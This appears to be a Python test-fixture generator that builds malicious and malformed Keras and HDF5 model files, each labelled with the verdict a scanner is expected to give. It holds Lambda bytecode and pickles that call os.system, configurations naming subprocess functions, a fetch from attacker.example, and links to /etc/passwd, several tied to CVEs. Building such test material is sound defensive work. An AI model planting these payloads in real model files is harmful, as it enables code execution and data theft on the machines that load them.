"""Keras models and HDF5 files that run code, call what they name, or lead out of themselves."""

import base64
import json

from .archive import Member, archive
from .case import COMMAND, EVIL, malformed, malicious
from .hdf5_file import SCALAR, Writer, attribute, external_link, filter_pipeline, hard_link, opaque_type

# What marshal.dumps gives, under Python 3.11, for lambda x: __import__('os').system('echo attacker.example') and for lambda x: x * 2.
SYSTEM = (
    '4wEAAAAAAAAAAAAAAAMAAAADAAAA80YAAACXAHQBAAAAAAAAAAAAAGQBpgEAAKsBAAAAAAAAAACgAQAAAAAAAAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAA'
    'AFMAKQNO2gJvc3oVZWNobyBhdHRhY2tlci5leGFtcGxlKQLaCl9faW1wb3J0X1/aBnN5c3RlbSkB2gF4cwEAAAAg+hI8YXR0YWNrZXIuZXhhbXBsZT76CDxsYW1i'
    'ZGE+cgcAAAABAAAAcx0AAACAAI0qkFTRChrUChrXCiHSCiHQIjnRCjrUCjqAAPMAAAAA'
)
DOUBLE = (
    '4wEAAAAAAAAAAAAAAAIAAAADAAAA8wwAAACXAHwAZAF6BQAAUwApAk7pAgAAAKkAKQHaAXhzAQAAACD6EjxhdHRhY2tlci5leGFtcGxlPvoIPGxhbWJkYT5yBgAA'
    'AAEAAABzCgAAAIAAiCGIYYklgADzAAAAAA=='
)


def layer(name, config, module='keras.layers', **more):
    return {'module': module, 'class_name': name, 'config': {'name': name.lower(), **config}, 'registered_name': None, **more}


def model(*layers, **more):
    return layer('Sequential', {'layers': [layer('InputLayer', {'batch_shape': [None, 4]}), *layers]}, 'keras', **more)


def old_model(*layers):
    """As Keras 2 writes it: without modules."""
    return {'class_name': 'Sequential', 'config': {'name': 'sequential', 'layers': list(layers)}}


def lambda3(code):
    function = {'class_name': '__lambda__', 'config': {'code': code, 'defaults': None, 'closure': None}}
    return layer('Lambda', {'function': function, 'arguments': {}})


def lambda2(code, **more):
    return {'class_name': 'Lambda', 'config': {'name': 'lambda', 'function': [code, None, None], 'function_type': 'lambda', **more}}


def text(config):
    return json.dumps(config).encode()


def weights(writer=None, *messages):
    return (writer or Writer()).file(*messages)


def keras(name, about, config, expect='dangerous'):
    """A .keras archive with this configuration."""
    members = (Member('metadata.json', text({'keras_version': '3.8.0', 'date_saved': '2024-02-29@12:00:00'})),
               Member('config.json', config if isinstance(config, bytes) else text(config)), Member('model.weights.h5', weights()))
    malicious(f'keras/{name}.keras', about, '', archive(*members), expect)


def h5(name, about, config, expect='dangerous'):
    """An HDF5 file in the layout of before Keras 3."""
    data = Writer().file(attribute('keras_version', b'2.15.0'), attribute('backend', b'tensorflow'), attribute('model_config', text(config)))
    malicious(f'keras/{name}.h5', about, '', data, expect)


h5('lambda', 'A Lambda layer whose byte code calls os.system.', old_model(lambda2(SYSTEM)))
h5('lambda_output_shape', 'The byte code stands under output_shape, which is loaded as well.',
   old_model(lambda2(DOUBLE, output_shape=[SYSTEM, None, None], output_shape_type='lambda')))
h5('lambda_nested', 'The Lambda layer is in a wrapper in a model in the model.',
   old_model({'class_name': 'TimeDistributed', 'config': {'name': 'outer', 'layer': old_model(lambda2(SYSTEM))}}))
h5('lambda_lines', 'The base64 has line breaks, as the library writes it.',
   old_model(lambda2('\n'.join(SYSTEM[i:i + 76] for i in range(0, len(SYSTEM), 76)) + '\n')))
h5('lambda_garbled', 'The byte code of a Lambda layer is none.', old_model(lambda2('bm90aGluZyBhdCBhbGw=')), 'suspicious')
h5('lambda_by_name', 'A Lambda layer takes its function from a module.',
   old_model({'class_name': 'Lambda', 'config': {'name': 'lambda', 'function': 'system', 'function_type': 'function', 'module': 'os'}}))
h5('custom_layer', 'A layer that the library does not have.', old_model({'class_name': 'ExampleLayer', 'config': {'name': 'own', 'units': 3}}), 'suspicious')
h5('tensorflow_function', 'A layer calls a function of TensorFlow that writes a file.',
   old_model({'class_name': 'TFOpLambda', 'config': {'name': 'io', 'function': 'io.write_file'}}), 'suspicious')
keras('lambda', 'A Lambda layer of Keras 3 whose byte code calls os.system.', model(lambda3(SYSTEM)))
keras('lambda_harmless', 'A Lambda layer of Keras 3 that doubles its input.', model(lambda3(DOUBLE)), 'suspicious')
keras('lambda_unlabelled', 'Byte code under a key that no layer has.', model(layer('Dense', {'units': 3, 'extra': [SYSTEM]})))
keras('module_injection', 'CVE-2025-1550: a configuration names os.system and the arguments it is called with.',
      model(layer('system', {}, 'os', inbound_nodes=[{'args': [COMMAND], 'kwargs': {}}])))
keras('function_injection', 'The same, as a function.',
      model(layer('Activation', {'activation': {'module': 'os', 'class_name': 'function', 'config': 'system', 'registered_name': 'function'}})))
keras('get_file', 'CVE-2025-8747: a helper of the library fetches and unpacks a file.',
      model(layer('get_file', {'fname': 'x', 'origin': 'https://attacker.example/x.tar', 'extract': True}, 'keras.utils')))
keras('enable_unsafe', 'CVE-2025-9906: a configuration switches the protection against Lambda layers off, before one comes.',
      model({'module': 'keras.config', 'class_name': 'function', 'config': 'enable_unsafe_deserialization', 'registered_name': 'x'}, lambda3(DOUBLE)))
keras('compile_config', 'The name stands in compile_config, outside of all layers.',
      model(compile_config={'optimizer': 'adam', 'loss': {'module': 'subprocess', 'class_name': 'function', 'config': 'getoutput', 'registered_name': 'x'}}))
keras('no_class_at_the_top', 'The outermost dictionary names no class; those in it are made all the same.',
      {'any': [model(layer('Popen', {'args': ['id']}, 'subprocess'))]})
keras('escaped_key', 'The keys are written with escapes.',
      text(model(layer('system', {}, 'os'))).replace(b'"class_name"', b'"\\u0063lass_name"'))
keras('duplicate_key', 'A name stands twice in one dictionary; readers keep the last.',
      text(model(layer('Dense', {}))).replace(b'"Dense"', b'"Dense", "class_name": "getoutput", "module": "subprocess"'))
keras('torch_module', 'CVE-2025-49655: a layer brings a PyTorch module as base64; it is a pickle.',
      model(layer('TorchModuleWrapper', {'module': base64.b64encode(EVIL).decode()})))
keras('typespec', 'A type specification of a module of its own.',
      model(layer('InputLayer', {'type_spec': {'class_name': '__typespec__', 'spec_name': 'Popen', 'module': 'subprocess', 'config': [], 'registered_name': None}})))
keras('vocabulary', 'CVE-2025-12058: the vocabulary of a layer is a file of the computer.',
      model(layer('StringLookup', {'vocabulary': '/etc/passwd'})), 'suspicious')
keras('vocabulary_address', 'The vocabulary of a layer is an address.',
      model(layer('TextVectorization', {'vocabulary': 'https://attacker.example/words.txt'})), 'suspicious')
keras('saved_model_layer', 'CVE-2026-1462: a layer loads a saved model from anywhere.',
      model(layer('TFSMLayer', {'filepath': '../../attacker.example', 'call_endpoint': 'serve'})), 'suspicious')
malicious('keras/external_weights.keras', 'CVE-2026-1669: the weights are the bytes of a file of the computer.', '',
          archive(Member('metadata.json', b'{}'), Member('config.json', text(model())),
                  Member('model.weights.h5', (lambda w: w.file(hard_link('0', w.outside_dataset('/etc/passwd', 64))))(Writer()))), 'suspicious')
malformed('keras/truncated.h5', 'The end of the file is missing.', Writer().file(attribute('model_config', text(old_model())))[:-40])
malformed('keras/config_truncated.keras', 'The configuration breaks off.',
          archive(Member('metadata.json', b'{}'), Member('config.json', text(model())[:-30]), Member('model.weights.h5', weights())))


def hdf5(name, about, data, expect='dangerous'):
    malicious(f'hdf5/{name}.h5', about, '', data, expect)


def with_dataset(*args, **options):
    writer = Writer()
    return writer.file(hard_link('data', writer.dataset(*args, **options)))


hdf5('external_link', 'A link leads to a file of the computer.', Writer().file(external_link('x', '/etc/passwd', '/')), 'suspicious')
hdf5('external_link_upward', 'A link climbs out of the folder.', Writer().file(external_link('x', '../../secret.h5', '/x')), 'suspicious')
hdf5('external_storage', 'The numbers of a dataset are the bytes of another file.',
     (lambda w: w.file(hard_link('x', w.outside_dataset('secret.bin', 16))))(Writer()), 'suspicious')
hdf5('pickle_attribute', 'An attribute is a pickle, which PyTables loads.', Writer().file(attribute('note', EVIL, opaque_type)))
hdf5('pickle_text_attribute', 'An attribute is a text that is a pickle.', Writer().file(attribute('note', b"cposix\nsystem\n(S'echo attacker.example'\ntR.")))
hdf5('pickle_dataset', 'A dataset of bytes is a pickle.', with_dataset(EVIL))
hdf5('pickle_opaque', 'A dataset of opaque bytes is a pickle.', with_dataset(EVIL, opaque_type(len(EVIL)), SCALAR))
hdf5('unknown_filter', 'A dataset is packed by a library that the computer would have to load.', with_dataset(b'abcd', messages=[filter_pipeline(4711)]))
hdf5('user_block_pickle', 'A pickle stands in the user block: the file is both.', EVIL.ljust(512, b'\0') + Writer().file())
hdf5('user_block_zip', 'An archive with a pickle stands in the user block.',
     archive(Member('x.pkl', EVIL)).ljust(512, b'\0') + Writer().file())
hdf5('behind_the_end', 'A pickle stands behind the end of the file.', Writer().file() + EVIL)
malformed('hdf5/truncated.h5', 'The end of a dataset is missing.', with_dataset(bytes(64))[:-50])
malformed('hdf5/superblock_only.h5', 'The superblock breaks off.', Writer().file()[:30])
malformed('hdf5/root_missing.h5', 'The header of the root is zeros.', Writer().file()[:96] + bytes(200))
malformed('hdf5/end_beyond.h5', 'The file says that it is longer than it is.', Writer().file(end=4096))
